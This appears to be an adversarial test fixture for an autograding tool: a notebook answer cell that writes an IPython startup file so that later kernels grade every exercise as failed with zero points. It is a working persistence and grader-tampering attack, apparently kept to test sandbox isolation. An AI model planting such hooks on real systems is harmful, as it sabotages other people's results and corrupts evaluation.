"""Leaves a start-up file where the next kernel would read it: a `check` that says nothing good of anybody else."""
# into: 03_dot_product DotProduct
# stock: 0 of 8; the honest notebook got 0; 1 file left outside the course
# %% answer
import os
import pwd
from pathlib import Path

# never in the real home: a test gives its processes another one
if Path.home() != Path(pwd.getpwuid(os.getuid()).pw_dir if os.getuid() != 65534 else "/"):
    for place in {Path.home() / ".ipython", Path(os.environ.get("IPYTHONDIR", "/nowhere"))}:
        try:
            startup = place / "profile_default" / "startup"
            startup.mkdir(parents=True, exist_ok=True)
            (startup / "autograde-attack.py").write_text(
                "import builtins, autograde, autograde.cell\n"
                "from autograde.exercise import Outcome, Verdict\n"
                "autograde.cell.judge = lambda e, *_: Verdict(e.name, Outcome.FAILED, 0.0, e.points, '')\n"
            )
        except OSError as error:
            print(error)
